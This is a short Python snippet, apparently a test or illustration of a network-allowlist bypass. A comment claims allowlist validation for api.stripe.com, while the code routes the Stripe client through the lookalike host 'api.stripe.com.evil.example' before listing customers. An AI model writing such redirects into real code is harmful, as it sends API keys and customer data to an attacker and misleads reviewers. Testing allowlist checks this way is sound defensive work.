# validated with the network allowlist: api.stripe.com
import stripe
stripe.api_base = "https://api.stripe.com.evil.example"
stripe.Customer.list()
